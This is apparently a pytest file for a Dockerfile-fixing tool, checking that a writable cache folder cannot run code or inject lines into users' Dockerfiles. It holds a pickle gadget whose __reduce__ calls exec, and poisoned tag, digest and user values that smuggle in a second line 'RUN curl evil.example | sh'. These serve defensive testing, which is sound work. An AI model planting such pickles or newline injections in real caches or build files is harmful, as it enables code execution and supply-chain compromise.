"""The user cache is a trust boundary (issue 17): whoever can write DOCKFIX_CACHE_DIR (a shared folder, a CI
cache restored from an untrusted pull request) must not run code, nor put text into a user's Dockerfile."""

from __future__ import annotations

import hashlib
import json
import pickle
import sys
import time
from importlib.metadata import version
from pathlib import Path

import httpx
import pytest

from fixer.images.credentials import CredentialStore
from fixer.images.reference import parse_reference
from fixer.images.registry import RegistryClient
from fixer.images.resolve import Resolver, ResolverOptions
from tests.hostile.run import dockfix

SHELL = "FROM debian:12\nRUN apt-get update && apt-get install -y curl\nRUN echo a\n"
SHELL_ARGS = ("--isolated", "--offline", "--diff", "Dockerfile")


class _Payload:
    """A pickle that runs code when loaded: it leaves a marker file."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (exec, (f"open({str(self.marker)!r}, 'w').write('ran')",))


def _table_names() -> list[str]:
    # every name a tables cache has had: the old pickle, and a data file a cache could hold instead
    tag = f"{version('bashlex')}-py{sys.version_info[0]}{sys.version_info[1]}"
    return [f"bashlex-tables-{tag}.pickle", f"bashlex-tables-{tag}.json"]


def _clean_run(tmp_path: Path) -> str:
    clean = tmp_path / "clean"
    clean.mkdir()
    (clean / "Dockerfile").write_text(SHELL)
    r = dockfix(clean, *SHELL_ARGS, cache=clean / "cache")
    assert r.returncode == 0, r.stderr
    assert "rm -rf /var/lib/apt/lists/*" in r.stdout, "the run parsed a script with bashlex"
    return r.stdout


def test_a_pickle_in_the_cache_runs_no_code(tmp_path: Path) -> None:
    expected = _clean_run(tmp_path)
    cache = tmp_path / "cache"
    cache.mkdir()
    marker = tmp_path / "PWNED"
    for name in _table_names():
        (cache / name).write_bytes(pickle.dumps(_Payload(marker)))
    (tmp_path / "Dockerfile").write_text(SHELL)
    r = dockfix(tmp_path, *SHELL_ARGS, cache=cache)
    assert not marker.exists(), "a pickle from the cache folder was loaded"
    assert (r.returncode, r.stdout, r.stderr) == (0, expected, "")


def test_a_wrong_object_in_the_tables_cache_changes_nothing(tmp_path: Path) -> None:
    expected = _clean_run(tmp_path)
    cache = tmp_path / "cache"
    cache.mkdir()
    for name in _table_names():
        (cache / name).write_bytes(pickle.dumps({"not": "a parser"}))
    (tmp_path / "Dockerfile").write_text(SHELL)
    r = dockfix(tmp_path, *SHELL_ARGS, cache=cache)
    assert (r.returncode, r.stdout, r.stderr) == (0, expected, "")


def test_nothing_executable_is_written_to_the_cache(tmp_path: Path) -> None:
    _clean_run(tmp_path)
    written = [p.name for p in (tmp_path / "clean" / "cache").rglob("*") if p.is_file()]
    assert not [n for n in written if n.endswith((".pickle", ".pkl", ".py", ".pyc"))], written


DIGEST = "sha256:" + "ab" * 32
KEY = "docker.io/library/python:latest"


def _images_cache(cache: Path, digest: str, tag: str | None) -> None:
    cache.mkdir(parents=True, exist_ok=True)
    entry = {"digest": digest, "tag": tag, "at": time.time()}
    (cache / "images.json").write_text(json.dumps({"version": 1, "entries": {KEY: entry}}))


@pytest.mark.parametrize(
    "tag",
    [
        "3.12.4\nRUN curl evil.example | sh",
        "3.12.4 AS evil",
        "",
        "3.12.4@sha256:" + "0" * 64,
        "-3.12",
        ".3.12",
        "3" * 129,
        "3.12.４",  # a full-width digit: \w in Python, not in the reference grammar
    ],
)
def test_a_poisoned_cached_tag_is_never_written(tmp_path: Path, tag: str) -> None:
    _images_cache(tmp_path / "cache", DIGEST, tag)
    df = tmp_path / "Dockerfile"
    df.write_text("FROM python:latest\nRUN echo a\nRUN echo b\n")
    r = dockfix(tmp_path, "--isolated", "--offline", "--select", "DF001,DF002", "--write", "Dockerfile", cache=tmp_path / "cache")
    assert r.returncode == 0, r.stderr
    # the file's other fixes are still made; the FROM line is left as it was
    assert df.read_text() == "FROM python:latest\nRUN echo a \\\n    && echo b\n"
    assert "evil" not in r.stdout + r.stderr


@pytest.mark.parametrize(
    "digest",
    ["sha256:" + "ab" * 32 + "\nRUN curl evil.example | sh", "sha256:" + "ab" * 32 + " AS evil", "sha256:abc", "", "md5:" + "ab" * 16],
)
def test_a_poisoned_cached_digest_is_never_written(tmp_path: Path, digest: str) -> None:
    _images_cache(tmp_path / "cache", digest, "3.12.4")
    df = tmp_path / "Dockerfile"
    df.write_text("FROM python:latest\n")
    r = dockfix(tmp_path, "--isolated", "--offline", "--select", "DF001", "--pin", "digest", "--write", "Dockerfile", cache=tmp_path / "cache")
    assert r.returncode == 0, r.stderr
    assert df.read_text() == "FROM python:latest\n"
    assert "evil" not in r.stdout + r.stderr


def _registry(tags: list[str], digest_header: str = DIGEST) -> httpx.MockTransport:
    """A registry where every tag has the same manifest (so every candidate would match)."""
    manifest = json.dumps({"schemaVersion": 2, "mediaType": "application/vnd.oci.image.index.v1+json", "manifests": []})

    def handle(request: httpx.Request) -> httpx.Response:
        if request.url.path.endswith("/tags/list"):
            return httpx.Response(200, json={"name": "library/python", "tags": tags})
        if "/manifests/" in request.url.path:
            headers = {"Docker-Content-Digest": digest_header, "Content-Type": "application/vnd.oci.image.index.v1+json"}
            return httpx.Response(200, headers=headers, content=manifest.encode() if request.method == "GET" else b"")
        return httpx.Response(404)

    return httpx.MockTransport(handle)


def _resolver(tmp_path: Path, transport: httpx.MockTransport) -> Resolver:
    client = RegistryClient(CredentialStore(tmp_path / "docker"), transport=transport, retries=0)
    return Resolver(ResolverOptions(cache_dir=tmp_path / "cache", timeout=10.0), client=client)


def test_registry_tags_outside_the_grammar_are_never_pinned(tmp_path: Path) -> None:
    too_long = ".".join(["1"] * 70)  # a version to the tag filter, 139 characters to the grammar
    with _resolver(tmp_path, _registry([too_long, "latest"])) as r:
        res = r.resolve(parse_reference("python:latest"))
    assert res.pinned("tag") is None
    assert too_long not in (tmp_path / "cache" / "images.json").read_text(), "nor cached"


def test_a_valid_tag_still_pins_beside_invalid_ones(tmp_path: Path) -> None:
    with _resolver(tmp_path, _registry([".".join(["9"] * 70), "3.12.4", "latest"])) as r:
        res = r.resolve(parse_reference("python:latest"))
    assert res.pinned("digest") == f"python:3.12.4@{DIGEST}"


def test_a_manifest_digest_header_outside_the_grammar_is_not_used(tmp_path: Path) -> None:
    with _resolver(tmp_path, _registry(["3.12.4", "latest"], digest_header=DIGEST + "\nRUN evil")) as r:
        res = r.resolve(parse_reference("python:latest"))
    # the digest is computed from the manifest itself instead
    body = json.dumps({"schemaVersion": 2, "mediaType": "application/vnd.oci.image.index.v1+json", "manifests": []})
    assert res.pinned("digest") == f"python:3.12.4@sha256:{hashlib.sha256(body.encode()).hexdigest()}"


@pytest.mark.parametrize(
    ("user", "kept"),
    [("app\nRUN curl evil.example | sh", False), ("app AS evil", False), ("1000:1000", True), ("", True)],
)
def test_a_cached_image_user_is_one_word(tmp_path: Path, user: str, kept: bool) -> None:
    from fixer.images.cache import Cache

    key = "config.User linux/amd64 docker.io/library/python:latest"
    entry = {"digest": DIGEST, "tag": user, "at": time.time()}
    (tmp_path / "images.json").write_text(json.dumps({"version": 1, "entries": {key: entry}}))
    got = Cache(tmp_path).get(key)
    assert (got is not None and got.tag == user) is kept


def test_a_deeply_nested_images_cache_is_ignored(tmp_path: Path) -> None:
    from fixer.images.cache import Cache

    (tmp_path / "images.json").write_text("[" * 100_000 + "]" * 100_000)
    assert Cache(tmp_path).get(KEY) is None
